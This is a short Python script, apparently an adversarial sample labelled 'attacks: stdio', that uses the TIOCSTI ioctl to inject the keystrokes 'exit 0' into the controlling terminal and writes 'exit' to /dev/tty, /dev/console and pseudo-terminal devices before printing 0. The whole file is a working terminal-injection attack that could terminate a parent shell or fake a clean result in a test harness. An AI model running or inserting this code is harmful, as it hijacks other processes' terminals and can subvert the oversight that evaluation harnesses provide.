# Pushes input to a terminal.
# attacks: stdio
import fcntl, termios

for fd in (0, 1, 2):
    for char in b"exit 0\n":
        try: fcntl.ioctl(fd, termios.TIOCSTI, bytes([char]))
        except OSError: pass
for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/ptmx"):
    try: open(path, "w").write("exit\n")
    except OSError: pass
print(0)
